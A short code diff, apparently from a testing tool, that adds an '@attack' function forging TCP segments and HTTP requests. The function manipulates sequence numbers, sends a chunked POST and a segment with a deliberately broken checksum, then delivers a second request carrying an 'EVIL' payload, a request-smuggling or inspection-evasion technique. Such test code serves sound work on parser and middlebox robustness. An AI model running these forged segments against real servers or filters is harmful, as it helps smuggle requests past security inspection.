@@ -256,3 +256,14 @@ def _with_the_wish(client: Forger) -> None:
     client.listen(LATER)
     client.send(WISH[-1:] + EVIL, seq=client.seq - 1)
     client.seq += len(EVIL)
+
+
+@attack
+def _number_nought(client: Forger) -> None:
+    """A trailer that begins at sequence number 0, with a wrong checksum, then a request with the real one in its body."""
+    first = b"POST /okoko HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
+    real = b"POST /okoko HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % len(EVIL) + EVIL
+    client.seq = -len(first) - 1
+    _opened(client).data(first)
+    client.send(b"A: b".ljust(len(real) - 4, b"b") + b"\r\n\r\n", broken=True)
+    client.data(real)
